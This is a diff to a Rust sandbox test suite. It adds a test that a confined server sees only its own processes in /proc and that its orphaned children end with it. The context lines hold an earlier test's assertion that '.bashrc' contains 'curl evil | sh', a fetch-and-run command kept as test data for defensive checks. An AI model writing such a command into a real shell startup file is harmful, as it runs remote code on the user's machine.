@@ -608,3 +608,56 @@ print(json.dumps(r))"#,
     assert_eq!(read(".bashrc").as_deref(), Some("curl evil | sh"));
     assert_eq!(read("memory.jsonl").as_deref(), Some("saved"));
 }
+
+/// A process namespace of the server's own: a child reads its own `/proc/self` (a browser's
+/// processes must), `/proc` lists the server's processes alone — not this test's —, and a
+/// process it leaves behind ends with it. The control: the same program unconfined reads this
+/// test's entry, and its orphan outlives it.
+#[test]
+fn a_server_sees_its_own_processes_alone_and_they_end_with_it() {
+    let w = world();
+    let marker = format!("{}.25", 300 + std::process::id() % 500);
+    let code = format!(
+        r#"import os, subprocess, json
+r = {{}}
+r['child'] = subprocess.run(['cat', '/proc/self/status'], capture_output=True).stdout.decode()[:5]
+pids = [int(p) for p in os.listdir('/proc') if p.isdigit()]
+r['mine'] = os.getpid() in pids
+r['test'] = {test} in pids
+subprocess.Popen(['sleep', '{marker}'], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+print(json.dumps(r))"#,
+        test = std::process::id()
+    );
+    let orphans = || {
+        let out = Command::new("pgrep")
+            .args(["-f", &format!("sleep {marker}")])
+            .output()
+            .unwrap();
+        String::from_utf8_lossy(&out.stdout).lines().count()
+    };
+    let policy = with(base(&w), json!({"read": ["/proc/self", "/bin"]}));
+    let (answer, status, stderr) = run(&w, &policy, &code);
+    assert_eq!(status, Some(0), "{stderr}");
+    let r: Value = serde_json::from_str(&answer).unwrap_or_else(|_| panic!("{answer} {stderr}"));
+    assert_eq!(r["child"], "Name:", "{r}");
+    assert_eq!(r["mine"], true, "{r}");
+    assert_eq!(r["test"], false, "{r}");
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
+    while orphans() > 0 && std::time::Instant::now() < deadline {
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    assert_eq!(orphans(), 0, "a process the server left behind outlived it");
+
+    // The control, unconfined.
+    let out = Command::new(&w.python)
+        .args(["-c", &code])
+        .output()
+        .unwrap();
+    let r: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(r["test"], true, "{r}");
+    assert_eq!(orphans(), 1, "the control's orphan lives on");
+    Command::new("pkill")
+        .args(["-f", &format!("sleep {marker}")])
+        .status()
+        .unwrap();
+}
